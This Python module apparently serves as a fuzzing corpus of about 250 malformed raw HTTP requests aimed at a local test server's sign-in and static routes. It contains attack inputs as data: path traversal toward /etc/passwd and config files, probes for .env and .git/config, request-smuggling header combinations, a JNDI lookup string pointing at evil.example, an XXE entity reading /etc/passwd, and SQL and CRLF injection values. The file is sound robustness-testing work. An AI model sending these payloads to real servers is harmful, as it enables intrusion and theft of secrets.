"""About 250 requests that no browser sends, and what may come back for each."""

from collections.abc import Iterator
from dataclasses import dataclass

HOST = b"Host: 127.0.0.1\r\n"
FORM = b"Content-Type: application/x-www-form-urlencoded\r\n"


@dataclass(frozen=True)
class Sent:
    """Bytes, and whether an ordinary answer is right as well: the request is odd, and not wrong."""

    name: str
    data: bytes
    is_fair: bool = False


def _get(target: bytes, *headers: bytes, version: bytes = b"HTTP/1.1", host: bytes = HOST) -> bytes:
    return b"GET " + target + b" " + version + b"\r\n" + host + b"".join(one + b"\r\n" for one in headers) + b"\r\n"


def _post(body: bytes, *headers: bytes, target: bytes = b"/sign-in") -> bytes:
    return b"POST " + target + b" HTTP/1.1\r\n" + HOST + b"".join(one + b"\r\n" for one in headers) + b"\r\n" + body


def _length(body: bytes) -> bytes:
    return b"Content-Length: " + str(len(body)).encode()


def corpus() -> Iterator[Sent]:
    """Return all of them."""
    yield from _methods()
    yield from _targets()
    yield from _lines()
    yield from _hosts()
    yield from _headers()
    yield from _lengths()
    yield from _chunks()
    yield from _forms()
    yield from _garbage()


def _methods() -> Iterator[Sent]:
    for method in (b"TRACE", b"TRACK", b"CONNECT", b"PUT", b"DELETE", b"PATCH", b"PROPFIND", b"FOO", b"BREW", b"DEBUG"):
        yield Sent(f"method {method!r}", method + b" /sign-in HTTP/1.1\r\n" + HOST + b"Content-Length: 0\r\n\r\n")
    for method in (
        b"get",
        b"Get",
        b"G",
        b"G" * 300,
        b"G\x00T",
        b"G\xffT",
        b"G(T",
        b'"GET"',
        b"GET:",
        b"{GET}",
        b"\tGET",
    ):
        yield Sent(f"method {method[:9]!r}", method + b" /sign-in HTTP/1.1\r\n" + HOST + b"\r\n")
    for method in (b"OPTIONS", b"HEAD"):
        yield Sent(f"method {method!r}", method + b" /sign-in HTTP/1.1\r\n" + HOST + b"\r\n", is_fair=True)
    yield Sent("options of everything", b"OPTIONS * HTTP/1.1\r\n" + HOST + b"\r\n")
    yield Sent("connect", b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n")


def _targets() -> Iterator[Sent]:
    for path in (
        *(b"/%00", b"/static/%00", b"/static/css/tracker.css%00", b"/projects/1%00", b"/sign-in%00"),
        *(b"/..%2f..%2fetc/passwd", b"/static/..%2f..%2fconfig.py", b"/static/%2e%2e/%2e%2e/config.py"),
        *(b"/static/../config.py", b"/static/..%252f..%252fconfig.py", b"/static/....//....//config.py"),
        *(b"/static/..\\..\\config.py", b"/static/%5c..%5c..%5cconfig.py", b"/static/C:/con"),
        *(b"/static/css", b"/static/", b"/static/.", b"/static/%2e", b"/static/css/", b"/.git/config", b"/.env"),
        *(b"/tracker.sqlite", b"/instance/secret_key", b"/server-status", b"/admin", b"/wp-login.php", b"/console"),
        *(
            b"/%ff%fe",
            b"/%c0%ae%c0%ae/",
            b"/%c3",
            b"/%ed%a0%80",
            b"/%f5%80%80%80",
            b"/%e2%80%ae",
            b"/%zz",
            b"/%",
            b"/%1",
        ),
        *(b"/" + b"a" * 3_000, b"/" + b"a/" * 1_500, b"/" + b"%41" * 1_000, b"/" + b";a" * 500),
        *(b"/projects/99999999999999999999", b"/projects/-1", b"/projects/1e9", b"/projects/0x1", b"/projects/%31%00"),
        *(b"/unsubscribe/" + b"A" * 3_000, b"/welcome/%00", b"/welcome/..%2f..", b"/new-password/%ff"),
    ):
        yield Sent(f"path {path[:40]!r}", _get(path))
    for path in (
        b"/static//etc/passwd",
        b"/%2e%2e/sign-in",
        b"/a/../sign-in",
        b"//sign-in",
        b"/\\evil.example",
        b"//evil.example/%2f..",
    ):
        yield Sent(f"path {path!r}", _get(path), is_fair=True)
    for path in (b"/\xff", b"/\xc3\xa9", b"/a\x7f", b"/a\x01b", b"/a b", b"/\x00", b"/\t", b"sign-in", b"", b"?", b"#"):
        yield Sent(f"raw path {path!r}", _get(path))
    for query in (
        b"?%00",
        b"?lang=%ff",
        b"?" + b"a=1&" * 900,
        b"?a[]=1&a[b]=2",
        b"?next=%0d%0aX:%20y",
        b"?%",
        b"?&&&=;",
    ):
        yield Sent(f"query {query[:30]!r}", _get(b"/sign-in" + query), is_fair=True)
    yield Sent("long line", _get(b"/sign-in?" + b"a" * 5_000))
    yield Sent("longer line", _get(b"/" + b"a" * 70_000))
    yield Sent("endless line", b"GET /" + b"a" * 300_000)
    for target in (b"http://evil.example/", b"http://127.0.0.1@evil.example/", b"http://[::1/", b"evil.example:80"):
        yield Sent(f"target {target!r}", _get(target, host=b"Host: evil.example\r\n"))
    yield Sent("whole address", _get(b"http://127.0.0.1/sign-in"), is_fair=True)


def _lines() -> Iterator[Sent]:
    for version in (
        *(b"HTTP/0.9", b"HTTP/1.2", b"HTTP/1.10", b"HTTP/2.0", b"HTTP/3", b"HTTP/11", b"HTTP/1.1.1", b"http/1.1"),
        *(b"HTTP/1.", b"HTTP/", b"HTTP", b"ICY/1.1", b"HTTP/1.1 x", b"HTTP/-1.1", b"HTTP/1.\xb9", b"HTTP/a.b"),
    ):
        yield Sent(f"version {version!r}", _get(b"/sign-in", version=version), is_fair=version == b"HTTP/1.2")
    yield Sent("no version", b"GET /sign-in\r\n" + HOST + b"\r\n")
    yield Sent("no target", b"GET\r\n" + HOST + b"\r\n")
    yield Sent("tabs between", b"GET\t/sign-in\tHTTP/1.1\r\n" + HOST + b"\r\n")
    yield Sent("two spaces", b"GET  /sign-in  HTTP/1.1\r\n" + HOST + b"\r\n")
    yield Sent("bare line feeds", b"GET /sign-in HTTP/1.1\nHost: 127.0.0.1\n\n")
    yield Sent("bare line feed in the head", b"GET /sign-in HTTP/1.1\r\nHost: 127.0.0.1\nX: y\r\n\r\n")
    yield Sent("bare carriage returns", b"GET /sign-in HTTP/1.1\rHost: 127.0.0.1\r\r")
    yield Sent("empty lines before", b"\r\n\r\n" + _get(b"/sign-in"))
    yield Sent("space before", b" " + _get(b"/sign-in"))


def _hosts() -> Iterator[Sent]:
    yield Sent("no host", b"GET /sign-in HTTP/1.1\r\n\r\n")
    yield Sent("old and no host", b"GET /sign-in HTTP/1.0\r\n\r\n", is_fair=True)
    for host in (
        *(
            b"evil.example",
            b"evil.example:80",
            b"127.0.0.1.evil.example",
            b"127.0.0.1@evil.example",
            b"localhost.",
            b"",
        ),
        *(b"127.0.0.1, evil.example", b"127.0.0.1 evil.example", b"127.0.0.1:x", b"127.0.0.1/evil", b"[::1", b"\xff"),
        *(b"127.0.0.1\x00.evil.example", b"<script>", b"127.1", b"2130706433", b"0x7f.1", b"*", b"a" * 5_000),
    ):
        yield Sent(f"host {host[:30]!r}", _get(b"/sign-in", host=b"Host: " + host + b"\r\n"), is_fair=host == b"[::1")
    yield Sent("two hosts", _get(b"/sign-in", b"Host: evil.example"), is_fair=False)
    for name in (
        b"X-Forwarded-Host",
        b"X-Host",
        b"Forwarded",
        b"X-Original-URL",
        b"X-Rewrite-URL",
        b"X-Forwarded-Prefix",
    ):
        yield Sent(f"header {name!r}", _get(b"/sign-in", name + b": evil.example/settings/"), is_fair=True)
    yield Sent("mixed schemes", _get(b"/sign-in", b"X-Forwarded-Proto: https", b"X-Forwarded-Ssl: off"), is_fair=True)


def _headers() -> Iterator[Sent]:
    for line in (
        *(b"No colon", b": no name", b"Sp ace: x", b"Tab\t: x", b"Name : x", b"N\x00: x", b"N\xff: x", b"N: a\x00b"),
        *(b"N: a\rb", b"N: a\x0bb", b" folded: x", b"N(: x", b'"N": x', b"N@: x", b"{}: x"),
    ):
        yield Sent(f"header {line!r}", _get(b"/sign-in", line), is_fair=line == b"N: a\x0bb")
    yield Sent("folded", _get(b"/sign-in", b"X: a\r\n b"))
    yield Sent("large header", _get(b"/sign-in", b"X: " + b"a" * 2**16))
    yield Sent("larger header", _get(b"/sign-in", b"X: " + b"a" * 2**20))
    yield Sent("101 headers", _get(b"/sign-in", *(b"X-%d: y" % number for number in range(120))))
    yield Sent("10,000 headers", _get(b"/sign-in", *(b"X-%d: y" % number for number in range(10_000))))
    yield Sent("endless headers", b"GET /sign-in HTTP/1.1\r\n" + HOST + b"X: y\r\n" * 40_000)
    for line in (
        *(b"Cookie: tracker=" + b"a" * 7_000, b"Cookie: tracker=\xff\xfe; =; ;;;", b"Cookie: " + b"a=b; " * 900),
        *(b"Accept-Language: " + b"de," * 1_000, b"Accept-Language: de;q=nan, hu;q=1e999, \xff", b"Accept-Language: *"),
        *(b"Range: bytes=0-,0-,0-", b"Range: bytes=-1", b"If-Modified-Since: 99", b"If-None-Match: " + b'"a",' * 500),
        *(
            b"Connection: upgrade\r\nUpgrade: websocket",
            b"Connection: close, X, host",
            b"Upgrade: h2c",
            b"TE: trailers",
        ),
        *(b"Authorization: Basic " + b"A" * 4_000, b"User-Agent: ${jndi:ldap://evil.example/a}\x1b[31m", b"Expect: x"),
        *(b"X-Forwarded-For: 1.2.3.4, ' OR 1=1", b"X-Forwarded-For: " + b"1," * 2_000, b"Forwarded: for=_x;host=e"),
        *(b"Sec-Fetch-Site: cross-site", b"Origin: null", b"Origin: https://evil.example", b"Content-Type: \xff/\xff"),
        *(b"Content-Type: multipart/form-data", b"Proxy: http://evil.example", b"X-HTTP-Method-Override: DELETE"),
    ):
        yield Sent(f"header {line[:40]!r}", _get(b"/sign-in", line), is_fair=True)
    yield Sent("range of a file", _get(b"/static/css/tracker.css", b"Range: bytes=9999999-"), is_fair=True)
    yield Sent("ranges of a file", _get(b"/static/css/tracker.css", b"Range: bytes=" + b"0-0," * 300), is_fair=True)


def _lengths() -> Iterator[Sent]:
    body = b"email=a&password=b"
    for value in (
        *(
            b"-1",
            b"+18",
            b"0x12",
            b"1e1",
            b"18 ",
            b"1 8",
            b"18,18",
            b"18, 19",
            b"18;",
            b"\xb9\xb8",
            b"",
            b"abc",
            b"18\x00",
        ),
        *(b"9" * 25, b"99999999999", b"18.0"),
    ):
        sent = _post(body, FORM.strip(), b"Content-Length: " + value)
        yield Sent(f"length {value[:20]!r}", sent, is_fair=value == b"18 ")
    yield Sent("two lengths", _post(body, FORM.strip(), b"Content-Length: 18", b"Content-Length: 5"))
    yield Sent("the same length twice", _post(body, FORM.strip(), b"Content-Length: 18", b"Content-Length: 18"))
    yield Sent("length with an underscore", _post(body, FORM.strip(), b"Content_Length: 5"), is_fair=True)
    yield Sent("less than was said", _post(body, FORM.strip(), b"Content-Length: 500"))
    yield Sent("nothing of a body", _post(b"", FORM.strip(), b"Content-Length: 10"))
    smuggled = b"0\r\n\r\nGET /settings/ HTTP/1.1\r\n" + HOST + b"\r\n"
    chunked = b"Transfer-Encoding: chunked"
    for name, lines in (
        ("length and chunks", (_length(smuggled), chunked)),
        ("chunks and length", (chunked, b"Content-Length: 4")),
        ("chunks twice", (chunked, chunked)),
        ("chunks, identity", (b"Transfer-Encoding: chunked, identity",)),
        ("identity", (b"Transfer-Encoding: identity", _length(smuggled))),
        ("other coding", (b"Transfer-Encoding: xchunked", _length(smuggled))),
        ("gzip", (b"Transfer-Encoding: gzip", _length(smuggled))),
        ("space before the colon", (b"Transfer-Encoding : chunked", _length(smuggled))),
        ("tab in the value", (b"Transfer-Encoding:\tchunked", _length(smuggled))),
        ("vertical tab", (b"Transfer-Encoding: \x0bchunked", _length(smuggled))),
        ("coding in quotes", (b'Transfer-Encoding: "chunked"', _length(smuggled))),
        ("null in the coding", (b"Transfer-Encoding: chunked\x00", _length(smuggled))),
        ("folded coding", (b"Transfer-Encoding:\r\n chunked", _length(smuggled))),
        ("nameless coding", (b"Transfer-Encoding:", _length(smuggled))),
        ("coding by another name", (b"Transfer_Encoding: chunked", b"Content-Length: 0")),
    ):
        yield Sent(f"smuggling: {name}", _post(smuggled, FORM.strip(), *lines), is_fair="another name" in name)


def _chunks() -> Iterator[Sent]:
    lines = (FORM.strip(), b"Transfer-Encoding: chunked")
    for body in (
        *(b"zz\r\nabc\r\n0\r\n\r\n", b"-1\r\na\r\n0\r\n\r\n", b"+3\r\nabc\r\n0\r\n\r\n", b"0x3\r\nabc\r\n0\r\n\r\n"),
        *(
            b"3\r\nabcdef\r\n0\r\n\r\n",
            b"3\nabc\n0\n\n",
            b"ffffffffffffffff\r\na",
            b"3;" + b"x" * 9_000 + b"\r\nabc\r\n0\r\n\r\n",
        ),
        *(
            b"3 \r\nabc\r\n0\r\n\r\n",
            b" 3\r\nabc\r\n0\r\n\r\n",
            b"3\r\nabc0\r\n\r\n",
            b"\r\n0\r\n\r\n",
            b"3_0\r\nabc\r\n0\r\n\r\n",
        ),
        *(
            b"3\r\nabc\r\n0\r\nX: y\r\n" * 3,
            b"7fffffff\r\nabc\r\n",
            b"3\r\nab",
            b"\xff\r\n",
            b"0" * 9_000 + b"\r\n\r\n",
        ),
    ):
        yield Sent(f"chunks {body[:20]!r}", _post(body, *lines), is_fair=body[:2] in {b"3 ", b"3;", b"3\r", b"00"})


def _forms() -> Iterator[Sent]:
    multipart = b"Content-Type: multipart/form-data; boundary=b"
    part = b'--b\r\nContent-Disposition: form-data; name="x"\r\n\r\ny\r\n'
    bodies = (
        ("10,001 parts", multipart, part * 10_001 + b"--b--\r\n"),
        ("10,001 fields", FORM.strip(), b"&".join(b"a%d=1" % number for number in range(10_001))),
        ("100,000 times one field", FORM.strip(), b"a=1&" * 100_000),
        ("endless part", multipart, part + b'--b\r\nContent-Disposition: form-data; name="y"\r\n\r\n' + b"z" * 2**20),
        ("no end", multipart, part),
        ("no boundary", b"Content-Type: multipart/form-data", part),
        ("other boundary", b"Content-Type: multipart/form-data; boundary=c", part),
        ("huge boundary", b"Content-Type: multipart/form-data; boundary=" + b"b" * 3_000, part),
        ("file", multipart, part.replace(b'"x"', b'"x"; filename="../../a"') + b"--b--\r\n"),
        ("part with a huge head", multipart, b"--b\r\nX: " + b"a" * 2**17 + b"\r\n\r\ny\r\n--b--\r\n"),
        ("part without a head", multipart, b"--b\r\n\r\ny\r\n--b--\r\n"),
        (
            "part in another coding",
            multipart,
            part.replace(b"\r\n\r\n", b"\r\nContent-Transfer-Encoding: base64\r\n\r\n"),
        ),
        ("bytes that are no text", FORM.strip(), b"email=%ff%fe&password=%00"),
        ("names that are no text", FORM.strip(), b"%ff=%fe&%00=%00&=&&&"),
        ("JSON", b"Content-Type: application/json", b'{"email": "a"}'),
        ("broken JSON", b"Content-Type: application/json", b"{" * 10_000),
        ("XML", b"Content-Type: text/xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
        ("no type", b"X: y", b"email=a"),
        ("odd type", b"Content-Type: /;;=", b"email=a"),
        ("odd charset", b"Content-Type: application/x-www-form-urlencoded; charset=utf-7", b"email=+ADw-"),
        ("5 MB", FORM.strip(), b"email=" + b"a" * (5 * 2**20)),
        ("4 MB in one field", FORM.strip(), b"email=" + b"a" * (4 * 2**20 - 100)),
        ("zipped", FORM.strip() + b"\r\nContent-Encoding: gzip", b"\x1f\x8b\x08" + b"\x00" * 50),
    )
    for name, kind, body in bodies:
        yield Sent(f"form: {name}", _post(body, kind, _length(body)), is_fair=True)


def _garbage() -> Iterator[Sent]:
    yield Sent("TLS", bytes.fromhex("16030100a5010000a10303") + bytes(150))
    yield Sent("HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9))
    yield Sent("SSH", b"SSH-2.0-OpenSSH_9.9\r\n")
    yield Sent("SMTP", b"EHLO evil.example\r\nMAIL FROM:<a@b>\r\n\r\n")
    yield Sent("PROXY", b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n" + _get(b"/sign-in"))
    yield Sent("nulls", bytes(5_000) + b"\r\n\r\n")
    yield Sent("all bytes", bytes(range(256)) * 20 + b"\r\n\r\n")
    yield Sent("nothing", b"")
    yield Sent("half a line", b"GET /sign")
    yield Sent("JSON", b'{"method": "GET"}\r\n\r\n')
    yield Sent("one after the other, the second broken", _get(b"/sign-in") + b"FOO\r\n\r\n", is_fair=True)
